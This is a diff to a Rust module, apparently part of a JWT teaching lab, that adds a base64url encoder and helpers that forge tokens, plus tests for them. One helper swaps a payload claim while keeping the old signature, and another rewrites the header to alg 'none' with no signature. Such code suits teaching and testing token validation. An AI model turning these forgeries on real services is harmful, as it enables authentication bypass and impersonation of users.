@@ -156,6 +156,41 @@ pub fn base64url_decode(text: &str) -> Result<Vec<u8>, String> {
     Ok(out)
 }
 
+/// Unpadded base64url, as JWTs use it (to build the forged tokens of the attack steps).
+pub fn base64url_encode(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
+    for chunk in bytes.chunks(3) {
+        let n = chunk
+            .iter()
+            .enumerate()
+            .fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
+        for i in 0..=chunk.len() {
+            out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
+        }
+    }
+    out
+}
+
+/// `token` with one payload claim replaced and the original signature kept: what an attacker
+/// who edits a token sends. `None` when the payload cannot be read.
+pub fn with_claim(token: &str, claim: &str, value: Value) -> Option<String> {
+    let (header, rest) = token.split_once('.')?;
+    let (payload, signature) = rest.split_once('.')?;
+    let mut claims: Map<String, Value> =
+        serde_json::from_slice(&base64url_decode(payload).ok()?).ok()?;
+    claims.insert(claim.to_owned(), value);
+    let payload = base64url_encode(serde_json::to_string(&claims).ok()?.as_bytes());
+    Some(format!("{header}.{payload}.{signature}"))
+}
+
+/// `token` re-headed with `alg: none` and no signature.
+pub fn unsigned(token: &str) -> Option<String> {
+    let payload = token.split('.').nth(1)?;
+    let header = base64url_encode(br#"{"alg":"none","typ":"at+jwt"}"#);
+    Some(format!("{header}.{payload}."))
+}
+
 /// What a registered (or authlab) claim means, for the page.
 pub fn explain_claim(name: &str) -> &'static str {
     match name {
@@ -269,6 +304,43 @@ mod tests {
         // Not a token at all.
         assert!(decode("  ").problems()[0].contains("empty"));
         assert!(!decode("a.b.c.d").readable());
+    }
+
+    #[test]
+    fn base64url_round_trips_and_forged_tokens_keep_what_they_should() {
+        for text in [
+            "",
+            "f",
+            "fo",
+            "foo",
+            "foob",
+            "fooba",
+            "foobar",
+            "\u{fb}\u{ff}",
+        ] {
+            assert_eq!(
+                base64url_decode(&base64url_encode(text.as_bytes())).unwrap(),
+                text.as_bytes()
+            );
+        }
+        assert_eq!(base64url_encode(b"foobar"), "Zm9vYmFy");
+        let edited = with_claim(GOOD, "sub", Value::from("mallory")).unwrap();
+        let decoded = decode(&edited);
+        assert_eq!(decoded.claim("sub").unwrap(), "mallory");
+        assert_eq!(
+            edited.rsplit('.').next(),
+            GOOD.rsplit('.').next(),
+            "the signature is kept"
+        );
+        let none = decode(&unsigned(GOOD).unwrap());
+        assert_eq!(none.header_field("alg").unwrap(), "none");
+        assert_eq!(none.claim("sub").unwrap(), "alice");
+        assert!(none
+            .signature
+            .unwrap()
+            .problem
+            .unwrap()
+            .contains("unsigned"));
     }
 
     #[test]
